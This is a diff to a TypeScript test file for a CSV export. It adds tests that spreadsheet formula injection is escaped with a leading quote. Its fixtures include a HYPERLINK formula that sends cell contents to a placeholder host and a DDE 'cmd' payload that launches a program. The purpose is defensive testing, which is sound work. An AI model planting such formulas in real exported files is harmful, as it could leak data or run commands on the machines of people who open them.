@@ -1,8 +1,10 @@
 import { Workbook } from 'exceljs';
 import { Ledger } from '../../src/ledger/ledger.service';
-import { EarlyWarningExport } from '../../src/operations/early-warning/early-warning-export';
+import { EarlyWarningExport, type EarlyWarningRow } from '../../src/operations/early-warning/early-warning-export';
 import { earlyWarningCsv, earlyWarningHeadings, earlyWarningXlsx } from '../../src/operations/early-warning/early-warning-file';
+import { errorReportCsv } from '../../src/operations/import-report';
 import { OperationsJournal } from '../../src/operations/operations-journal';
+import { spreadsheetText } from '../../src/operations/tabular/spreadsheet-text';
 import { loadSeedPacks } from '../../src/policy-packs/load-pack';
 import { InMemoryEventStore } from '../support/in-memory-event-store';
 import { InMemoryPersonalDataStore } from '../support/in-memory-personal-data-store';
@@ -97,5 +99,25 @@ describe('early-warning export', () => {
     expect(withdrawn.sum.total).toBe(withdrawn.burden);
     expect(Number(withdrawn.sum.total)).toBeLessThan(5630.4);
     expect(earlyWarningCsv(rows, false)).toContain('解除,2023-08-10');
+  });
+});
+
+describe('CSV cells a spreadsheet would run as formulas', () => {
+  it.each([
+    ['=HYPERLINK("http://x.invalid/?"&E2,"详情")', `'=HYPERLINK("http://x.invalid/?"&E2,"详情")`],
+    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
+    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
+    ['-2+3', `'-2+3`],
+    ['\t=1', `'\t=1`],
+    ['-12.50', '-12.50'],
+    ['测试 边缘', '测试 边缘'],
+  ])('writes %j as %j', (text, written) => {
+    expect(spreadsheetText(text)).toBe(written);
+  });
+
+  it('given a name typed as a formula, then the export writes it as text, and the error report a heading so typed', () => {
+    const row = { change: 'raised', recordedAt: '2023-07-02T08:00:00Z', region: 'fumeng', personId: 'p-1', name: '=HYPERLINK("http://x.invalid/?"&F2)', nationalId: null, year: 2023, rule: 'r', ruleName: 'n', threshold: '5000.00', burden: '5630.40', byKind: { INPATIENT: { total: '5630.40', policyScope: '5630.40' }, OUTPATIENT_CHRONIC: { total: '0.00', policyScope: '0.00' }, HIGH_VALUE_DRUG: { total: '0.00', policyScope: '0.00' } }, sum: { total: '5630.40', policyScope: '5630.40' } } as unknown as EarlyWarningRow;
+    expect(earlyWarningCsv([row], true)).toContain(`p-1,"'=HYPERLINK(""http://x.invalid/?""&F2)",`);
+    expect(errorReportCsv([{ row: 2, column: '=1+1', reason: 'must be an amount' }])).toContain(`2,'=1+1,must be an amount`);
   });
 });
